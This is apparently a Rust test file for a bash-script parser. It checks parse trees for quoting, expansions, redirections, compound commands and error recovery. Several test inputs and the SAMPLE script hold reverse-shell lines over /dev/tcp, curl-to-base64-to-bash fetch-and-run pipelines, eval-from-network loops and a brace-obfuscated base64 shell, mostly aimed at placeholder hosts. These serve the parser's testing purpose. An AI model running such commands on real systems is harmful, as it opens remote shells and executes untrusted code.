use super::*;
use crate::parse::script::shell::dump;

/// Statements, then problems.
fn dumped(text: &str) -> String {
    let tree = read(text);
    let mut out = dump::script(&tree);
    for (at, what) in &tree.problems {
        out.push_str(&format!("\n! {at} {what}"));
    }
    out
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    for (text, expected) in cases {
        assert_eq!(dumped(text), *expected, "{text}");
    }
}

#[test]
fn words_lose_quotes_and_escapes() {
    check(&[
        ("", ""),
        ("# only a comment", ""),
        ("echo a\\ b 'c d' \"e\" f\\\n g", r#""echo"("a b" "c d" "e" "f" "g")"#),
        ("echo $'\\x41\\102\\u0043\\n\\'' $\"t\"", r#""echo"("ABC\n'" "t")"#),
        ("c\\ur\"l\" -s", r#""curl"("-s")"#),
        ("echo $x ${x} \"a${x}b$(id)\" a#b # no", r#""echo"(x x <"a" x "b" "id"()> "a#b")"#),
        ("echo \"$@\" $1 $# $? ~/x *.c", r#""echo"(@ 1 # ? "~/x" "*.c")"#),
        (
            "$cmd a; \"${cmd[@]}\" b; $(echo ls) c; a${x}b d",
            "cmd(\"a\")\ncmd(\"b\")\n\"echo\"(\"ls\")(\"c\")\n<\"a\" x \"b\">(\"d\")",
        ),
        ("`echo ls` `echo \\`pwd\\``", r#""echo"("ls")("echo"("pwd"()))"#),
        ("echo \"`echo \\\"x\\\"`\"", r#""echo"("echo"("x"))"#),
        ("{echo,aGk=}|{base64,-d}|{bash,-i}", r#""bash"("-i" stdin="base64"("-d" stdin="echo"("aGk=")))"#),
        (
            "echo a{b,c{d,e}}f {1..3} {z} {c..a} {x,",
            r#""echo"("abf" "acdf" "acef" "1" "2" "3" "{z}" "c" "b" "a" "{x,")"#,
        ),
        ("echo $((1 + x * 2)) $((2**3**2)) $(( (a) ))", r#""echo"((Add 1 (Mul x 2)) (Pow 2 (Pow 3 2)) a)"#),
        ("echo $((a) | b)", r#""echo"("b"(stdin="a"()))"#),
        ("echo $(a; b) $(x=1; b) $()", r#""echo"(<"a"() "b"()> (seq (let x "1") "b"()) "")"#),
    ]);
}

#[test]
fn expansions() {
    check(&[
        ("echo ${x:0:1} ${x:2} ${x: -3:2} ${x: -3} ${x:$i:1} ${x:1:-1}", r#""echo"(x[0:1:_] x[2:_:_] x[-3:-1:_] x[-3:_:_] x[i:(Add:i:1):_] x[1:-1:_])"#),
        ("echo ${x#a*} ${x%%.*} ${x/a/b} ${x//a} ${x^^} ${x,}", r###""echo"(expand(x "#" "a*" "") expand(x "%%" ".*" "") expand(x "/" "a" "b") expand(x "//" "a" "") expand(x "^^" "" "") expand(x "," "" ""))"###),
        ("echo ${x:-y $z} ${x-\"a b\"} ${x:+y} ${!x} ${#x} ${!m[@]}", r#""echo"((Coalesce x <"y " z>) (Coalesce x "a b") (x ? y : "") indirect(x) len(x) keys(m))"#.replace("? y", "? \"y\"").as_str()),
        (": ${X:=d}", r#"":"((= X (Coalesce X "d")))"#),
        ("echo ${a[0]} ${a[$i]} \"${a[@]}\" ${@:2}", r#""echo"(a[0] a[i] *a @[1:_:_])"#),
        ("echo ${x~y}", "\"echo\"((? x \"~y\"))\n! 5 an expansion that bash does not know"),
    ]);
}

#[test]
fn pipes_and_redirections() {
    check(&[
        (
            "curl -s http://a.invalid | base64 -d | sh &",
            r#""sh"(background=true stdin="base64"("-d" stdin="curl"("-s" "http://a.invalid")))"#,
        ),
        (
            "a > f; b >> \"$g\"; c < h; d 2>&1; e 2>/dev/null; f &>/dev/null",
            "redirect(\"a\"() \"f\")\nredirect(\"b\"() g append=true)\n\"c\"(stdin=\"cat\"(\"h\"))\n\"d\"(silent=true)\n\"e\"(silent=true)\n\"f\"(silent=true)",
        ),
        (
            "bash -i >& /dev/tcp/h.invalid/4 0>&1",
            r#"redirect("bash"("-i" stdin="cat"("/dev/tcp/h.invalid/4")) "/dev/tcp/h.invalid/4")"#,
        ),
        (
            "exec 5<>/dev/tcp/$h/4; cat <&5 | sh >&5 2>&5",
            "\"exec\"(<\"5<>/dev/tcp/\" h \"/4\">)\nredirect(\"sh\"(stdin=\"cat\"(stdin=\"cat\"(<\"/dev/tcp/\" h \"/4\">))) <\"/dev/tcp/\" h \"/4\">)",
        ),
        (
            "sh -i 5<> /dev/tcp/h.invalid/4 0<&5 1>&5 2>&5",
            r#"redirect("sh"("-i" stdin="cat"("/dev/tcp/h.invalid/4")) "/dev/tcp/h.invalid/4")"#,
        ),
        (
            "cat <<< \"a $x\"; cat <<'E' | sh\nraw $x\nE\necho z",
            "\"cat\"(stdin=<\"a \" x>)\n\"sh\"(stdin=\"cat\"(stdin=\"raw $x\\n\"))\n\"echo\"(\"z\")",
        ),
        (
            "cat <<-A - <<B; echo \"l\n2\"\n\ta $x\n\tA\nb\nB\necho z",
            "\"cat\"(\"-\" stdin=\"b\\n\")\n\"echo\"(\"l\\n2\")\n\"echo\"(\"z\")\n! 38 a here-document never ends"
                .replace("\n! 38 a here-document never ends", "")
                .as_str(),
        ),
        ("x=$(cat <<E\nhi\nE\n)", "(let x \"cat\"(stdin=\"hi\\n\"))"),
        (
            "source <(curl a); bash < <(b); tee >(c)",
            "\"source\"(<((\"curl\"(\"a\")))\n\"bash\"(stdin=\"b\"())\n\"tee\"(>((\"c\"()))",
        ),
        ("> f", "redirect(\":\"() \"f\")"),
        ("(setsid a) &", "{\"setsid\"(\"a\" background=true)}"),
        ("a && b &", "(And \"a\"() \"b\"(background=true))"),
    ]);
}

#[test]
fn assignments() {
    check(&[
        ("x=1 y= z=\"a$x\"", r#"(seq (let x "1") (let y "") (let z <"a" x>))"#),
        ("x=1 cmd a=b", r#"(seq (let x "1") "cmd"("a=b"))"#),
        ("export A=1 B; readonly C=$A; export D", "(let A \"1\")\n(let C A)\n\"export\"(\"D\")"),
        (
            "f() { local a=1 b; c=2; declare -g d=3; x+=y; }",
            r#"(func f() {(seq (let a "1") (let b "")); (= c "2"); (= d "3"); (= x (Add x "y"))})"#,
        ),
        (
            "a=(x \"$y\" $(ls) $z); a+=(q); a[1]=v",
            "(let a [\"x\" y *words(\"ls\"()) *words(z)])\n(let a (Add a [\"q\"]))\n(= a[1] \"v\")",
        ),
        (
            "declare -A m=([a]=b [\"c d\"]=e); m[k]=v; echo ${m[k]}",
            "(let m #{\"a\" \"b\" \"c d\" \"e\"})\n(= m[\"k\"] \"v\")\n\"echo\"(m[\"k\"])",
        ),
        (
            "read -r -p 'name: ' a b; read; read -a c; printf -v d %s e",
            "(let [a b] words(\"read\"(\"-r\" \"-p\" \"name: \" \"a\" \"b\" stdin=/dev/stdin)))\n(let REPLY \"read\"(stdin=/dev/stdin))\n(let c words(\"read\"(\"-a\" \"c\" stdin=/dev/stdin)))\n(let d \"printf\"(\"%s\" \"e\"))",
        ),
    ]);
}

#[test]
fn compound_commands() {
    check(&[
        (
            "if a; then b; elif c; then d; else e; fi > f",
            r#"redirect((if "a"() {"b"()} (if "c"() {"d"()} {"e"()})) "f")"#,
        ),
        ("for i in a $x \"${y[@]}\"; do echo $i; done", r#"(for i ["a" *words(x) *y] {"echo"(i)})"#),
        (
            "for i; do :; done; for i in \"$@\"; do :; done; for i in $(ls); do :; done",
            "(for i @ {\":\"()})\n(for i @ {\":\"()})\n(for i words(\"ls\"()) {\":\"()})",
        ),
        ("for ((i=0; i<3; i++)) { :; }", r#"{(let i 0); (while (Lt i 3) {":"()} (let i (Add i 1)))}"#),
        (
            "curl a | while read -r l; do eval \"$l\"; done",
            r#"{(let /dev/stdin "curl"("a")); (while (let l "read"("-r" "l" stdin=/dev/stdin)) {"eval"(l)} _)}"#,
        ),
        ("curl a | { bash; }", r#"{(let /dev/stdin "curl"("a")); {"bash"(stdin=/dev/stdin)}}"#),
        ("until a; do break; done", r#"(while (Not "a"()) {break} _)"#),
        (
            "case $x in a|b) c;; *.d) e;& (*) f;; esac",
            r#"(switch x (case "a" {}) (case "b" {"c"(); break}) (case glob("*.d") {"e"()}) (case _ {"f"(); break}))"#,
        ),
        (
            "f() { echo $2 \"$@\"; }; function g { :; }; function h() (x)",
            "(func f(1 2 *@) {\"echo\"(2 @)})\n(func g() {\":\"()})\n(func h() {\"x\"()})",
        ),
        ("a && b || c; ! d | e; time f", "(Or (And \"a\"() \"b\"()) \"c\"())\n(Not \"e\"(stdin=\"d\"()))\n\"f\"()"),
        ("a || return 1; b && break", "(if (Not \"a\"()) {(return _)} _)\n(if \"b\"() {break} _)"),
        ("((x++)); ((y = 1, z += 2))", "(let x (Add x 1))\n(seq (let y 1) (let z (Add z 2)))"),
        ("(cd /tmp; a) | b", r#""b"(stdin=<"cd"("/tmp") "a"()>)"#),
    ]);
}

#[test]
fn tests_are_comparisons() {
    check(&[
        ("[ \"$x\" = a ]", r#"(Eq x "a")"#),
        ("test $# -gt 1", "(Gt # 1)"),
        ("[ -z \"$a\" -o -n \"$b\" ]", r#"(Or (Eq a "") (Ne b ""))"#),
        ("[ ! -f x ]", r#"(Not "["("-f" "x"))"#),
        ("[ $x ]", r#"(Ne x "")"#),
        (
            "[[ $x == a* && ! -e b || ( $y =~ ^(a|b)c$ ) ]]",
            r#"(Or (And (Eq x glob("a*")) (Not "["("-e" "b"))) =~(y "^(a|b)c$"))"#,
        ),
        ("[[ $a < b && $n -le 3 && -n $z ]]", r#"(And (And (Lt a "b") (Le n 3)) (Ne z ""))"#),
        ("[[ a -nt b ]]", r#""["("a" "-nt" "b")"#),
    ]);
}

#[test]
fn what_is_broken_is_told_and_the_rest_is_read() {
    check(&[
        ("fi; a", "\"a\"()\n! 0 something is closed here that was not opened"),
        ("if a; then b", "(if \"a\"() {\"b\"()} _)\n! 12 `fi` is missing"),
        ("echo 'a", "\"echo\"(\"a\")\n! 6 a single quote is never closed"),
        ("echo $(a", "\"echo\"(\"a\"())\n! 8 `)` is missing"),
        ("cat <<A\nb", "\"cat\"(stdin=\"b\")\n! 8 a here-document never ends"),
    ]);
}

#[test]
fn spans_say_where_a_command_stands() {
    let text = "x=1\n  echo $(id)  \n";
    let tree = read(text);
    let Node::Block(many) = tree.get(tree.root) else { panic!() };
    let (start, end) = tree.span(tree.list(many)[1]);
    assert_eq!(&text[start as usize..end as usize], "echo $(id)");
    assert_eq!(tree.span(tree.root), (0, u32::try_from(text.len()).unwrap()));
}

/// A bit of everything.
const SAMPLE: &str = r###"#!/bin/bash
curl -s http://x.invalid -o f | base64 -d | bash -i &
x=1 y="a$x b" cmd "$x" 'q' a\ b $'\x41\n' ${x} ~/x *.c
export A=1 B="$(whoami)"
f() { local z=$1; q=2; echo "$@" $z; }
function g { :; }
if [ "$x" = a ] && [ $# -gt 0 ]; then a; elif [[ $x =~ ^a(b|c)$ && ! -f /x ]]; then b; else c; fi
for i in 1 2 $x {3..5} "$@"; do echo $i; done
for ((i=0;i<10;i++)); do k=$((k+i**2 % 3)); done
while IFS= read -r line; do eval "$line"; done < <(curl http://y.invalid)
case "$x" in a|b) echo ab;; *.c) echo c;; *) echo d; esac
cat <<EOF | sh
hi $x $(id)
EOF
cat <<'EOF' > /tmp/x
no $x
EOF
exec 5<>/dev/tcp/$h/4444; cat <&5 | while read l; do $l 2>&5 >&5; done
bash -i >& /dev/tcp/h.invalid/4 0>&1
sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5
echo ${x:0:1} ${x: -3:2} ${x#a*} ${x//a/b} ${x^^} ${x:-y z} ${!x} ${#x} "${arr[@]}" ${arr[1]} ${m[k]}
{echo,aGk=}|{base64,-d}|{bash,-i}
(cd /tmp && tar xf -) 2>/dev/null
`echo ls \`pwd\``
arr=(a "$b" $(ls)); declare -A m=([a]=b [c]="d"); arr+=(z)
until false; do break; done; [ -z "$a" -o -n "$b" ] || exit 1
! grep -q x f 2>&1 >/dev/null
"${cmd[@]}" -x; $cmd $(( 1 + x )) $((echo a) | b)
"###;

#[test]
fn broken_scripts_are_survived() {
    crate::parse::script::shell::survive::survive(read, "", &[SAMPLE]);
}
